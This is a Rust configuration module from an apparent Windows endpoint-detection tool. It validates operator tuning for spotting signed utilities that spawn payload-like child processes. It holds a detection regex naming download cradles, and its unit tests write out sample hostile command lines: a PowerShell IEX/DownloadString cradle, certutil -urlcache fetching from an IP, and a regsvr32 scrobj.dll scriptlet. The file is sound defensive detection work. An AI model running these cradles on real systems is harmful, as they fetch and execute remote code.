//! What an operator may tune.

use std::time::Duration;

use regex_lite::{Regex, RegexBuilder};
use sandtrap_sdk::{site::Pattern, windows::ProcessName};
use serde::Deserialize;

use crate::utility::UTILITIES;

/// A child's command line that smells of a payload: download cradles, decoding, scriptlets.
pub const CHILD_COMMAND_LINE_REGEX: &str = concat!(
    r"(?i)(frombase64string|download(string|file|data)|net\.webclient|",
    r"invoke-(webrequest|restmethod|expression)|\biex\b|\biwr\b|start-bitstransfer|",
    r"bitsadmin\S*\s.*/transfer|certutil\S*\s.*[-/](urlcache|decode|verifyctl)|",
    r"scrobj\.dll|(mshta|msiexec|curl|wget)\S*\s.*https?:|(java|vb)script:)",
);

/// Longest regular expression that is accepted, in bytes.
const MAX_PATTERN: usize = 1024;
/// Most memory a compiled regular expression may take, in bytes.
const MAX_COMPILED: usize = 256 * 1024;
/// How many entries a list of parents may have.
const MAX_PARENTS: usize = 64;
const DAY: u64 = 24 * 60 * 60;

/// The settings as they are written.
#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields, default, rename_all = "PascalCase")]
pub struct Settings {
    /// Names or path patterns of the utilities that are watched.
    pub parent_process_name: Vec<String>,
    /// Seconds for which a stage counts.
    pub time_window: u64,
    /// What in a child's command line counts as a payload.
    pub child_command_line_regex: String,
    /// Which children count as less trusted than their parent.
    pub signed_to_unsigned_transition: Transition,
    /// Seconds for which a written file is remembered.
    pub drop_window: u64,
    /// Days after which a baseline is believed.
    pub baseline_days: u64,
    /// Score from which a chain is reported.
    pub alert_score: i32,
    /// Score from which its severity is high.
    pub high_score: i32,
}

/// Which children of a signed utility count as a step down in trust.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Transition {
    /// Those without a valid signature, and those of unknown signature in places that
    /// users can write to.
    UnsignedOrUnknown,
    /// Only those known to be without a valid signature.
    Unsigned,
    /// None.
    Off,
}

impl Default for Settings {
    fn default() -> Self {
        Self {
            parent_process_name: UTILITIES.iter().map(|name| (*name).to_owned()).collect(),
            time_window: 600,
            child_command_line_regex: CHILD_COMMAND_LINE_REGEX.to_owned(),
            signed_to_unsigned_transition: Transition::UnsignedOrUnknown,
            drop_window: 1800,
            baseline_days: 14,
            alert_score: 50,
            high_score: 80,
        }
    }
}

/// The settings, checked and ready for use.
#[derive(Debug)]
pub struct Tuning {
    parents: Vec<Parent>,
    payload: Regex,
    /// For how long a stage counts.
    pub time_window: Duration,
    /// For how long a written file is remembered.
    pub drop_window: Duration,
    /// From when on a baseline is believed.
    pub baseline_age: Duration,
    /// Which children are a step down in trust.
    pub transition: Transition,
    /// Score from which a chain is reported.
    pub alert_score: i32,
    /// Score from which its severity is high.
    pub high_score: i32,
}

#[derive(Debug)]
enum Parent {
    Named(String),
    At(Pattern),
}

impl Tuning {
    /// Checks the settings; an `Err` names the one that is wrong.
    pub fn new(settings: Settings) -> Result<Self, String> {
        within("TimeWindow", settings.time_window, 1, DAY)?;
        within("DropWindow", settings.drop_window, 1, 7 * DAY)?;
        within("BaselineDays", settings.baseline_days, 1, 365)?;
        if settings.alert_score < 30 {
            return Err("`AlertScore` must be at least 30, or single stages are reported".into());
        }
        if settings.high_score < settings.alert_score {
            return Err("`HighScore` must not be below `AlertScore`".into());
        }
        Ok(Self {
            parents: parents(settings.parent_process_name)?,
            payload: payload(&settings.child_command_line_regex)?,
            time_window: Duration::from_secs(settings.time_window),
            drop_window: Duration::from_secs(settings.drop_window),
            baseline_age: Duration::from_secs(settings.baseline_days.saturating_mul(DAY)),
            transition: settings.signed_to_unsigned_transition,
            alert_score: settings.alert_score,
            high_score: settings.high_score,
        })
    }

    /// Whether the operator wants this process watched as a parent.
    pub fn is_watched(&self, name: &ProcessName, image: &str) -> bool {
        self.parents.iter().any(|parent| match parent {
            Parent::Named(known) => name.is(known),
            Parent::At(pattern) => pattern.fits(image),
        })
    }

    /// The part of a text that looks like a payload, if any.
    pub fn payload_in<'t>(&self, text: &'t str) -> Option<&'t str> {
        self.payload.find(text).map(|found| found.as_str())
    }
}

fn within(name: &str, value: u64, low: u64, high: u64) -> Result<(), String> {
    if (low..=high).contains(&value) {
        return Ok(());
    }
    Err(format!("`{name}` must be between {low} and {high}"))
}

fn payload(pattern: &str) -> Result<Regex, String> {
    let wrong = |reason: &str| format!("`ChildCommandLineRegex` {reason}");
    if pattern.len() > MAX_PATTERN {
        return Err(wrong("must not be longer than 1024 bytes"));
    }
    let regex = RegexBuilder::new(pattern)
        .size_limit(MAX_COMPILED)
        .build()
        .map_err(|error| wrong(&format!("is no regular expression: {error}")))?;
    // A pattern that needs no text, or fits a harmless one, fits nearly every child.
    if ["", "C:\\Windows\\System32\\conhost.exe 0xffffffff -ForceV1"]
        .iter()
        .any(|harmless| regex.is_match(harmless))
    {
        return Err(wrong("must not match everything"));
    }
    Ok(regex)
}

fn parents(entries: Vec<String>) -> Result<Vec<Parent>, String> {
    if entries.is_empty() || entries.len() > MAX_PARENTS {
        return Err(format!(
            "`ParentProcessName` must have 1 to {MAX_PARENTS} entries"
        ));
    }
    entries.into_iter().map(parent).collect()
}

fn parent(entry: String) -> Result<Parent, String> {
    let (directory, name) = match entry.rsplit_once('\\') {
        Some((directory, name)) => (Some(directory), name),
        None => (None, entry.as_str()),
    };
    if !UTILITIES
        .iter()
        .any(|known| known.eq_ignore_ascii_case(name))
    {
        return Err(format!(
            "`ParentProcessName`: `{}` does not end in one of {}",
            entry.escape_default(),
            UTILITIES.join(", ")
        ));
    }
    match directory {
        Some(_) => Pattern::new(&entry).map(Parent::At),
        None => Ok(Parent::Named(entry)),
    }
    .map_err(|reason| format!("`ParentProcessName`: {reason}"))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn refused(change: impl FnOnce(&mut Settings)) -> String {
        let mut settings = Settings::default();
        change(&mut settings);
        Tuning::new(settings).err().unwrap_or_default()
    }

    #[test]
    fn settings_that_make_no_sense_are_refused_by_name() {
        assert!(refused(|s| s.time_window = 0).contains("`TimeWindow`"));
        assert!(refused(|s| s.child_command_line_regex = "(".into()).contains("Regex"));
        assert!(refused(|s| s.child_command_line_regex = "x*".into()).contains("everything"));
        assert!(refused(|s| s.child_command_line_regex = ".".into()).contains("everything"));
        let long = "a".repeat(MAX_PATTERN + 1);
        assert!(refused(|s| s.child_command_line_regex = long).contains("longer"));
        assert!(refused(|s| s.parent_process_name.clear()).contains("entries"));
        assert!(refused(|s| s.parent_process_name = vec!["cmd.exe".into()]).contains("cmd.exe"));
        assert!(refused(|s| s.alert_score = 10).contains("`AlertScore`"));
        assert!(refused(|s| s.high_score = 40).contains("`HighScore`"));
        assert_eq!(refused(|_| ()), "");
    }

    #[test]
    fn parents_are_watched_by_name_or_by_place() {
        let tuning = |parents: &[&str]| {
            let parent_process_name = parents.iter().map(|p| (*p).to_owned()).collect();
            Tuning::new(Settings {
                parent_process_name,
                ..Settings::default()
            })
            .unwrap()
        };
        let image = "C:\\Windows\\System32\\cscript.exe";
        let name = ProcessName::of(image, "");
        assert!(tuning(&["cscript.exe"]).is_watched(&name, image));
        assert!(tuning(&["*\\System32\\cscript.exe"]).is_watched(&name, image));
        assert!(!tuning(&["D:\\*\\cscript.exe"]).is_watched(&name, image));
        assert!(!tuning(&["wscript.exe"]).is_watched(&name, image));
    }

    #[test]
    fn the_default_pattern_knows_cradles_and_leaves_inventories_alone() {
        let tuning = Tuning::new(Settings::default()).unwrap();
        for payload in [
            "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('x')\"",
            "cmd /c certutil.exe -urlcache -f http://203.0.113.9/a a",
            "regsvr32 /s /i:a.sct scrobj.dll",
        ] {
            assert!(tuning.payload_in(payload).is_some(), "{payload}");
        }
        for harmless in [
            "cmd.exe /c certutil -v -store -silent My >> config\\envinfo.txt",
            "cmd /c netsh wlan show all",
        ] {
            assert_eq!(tuning.payload_in(harmless), None, "{harmless}");
        }
    }
}
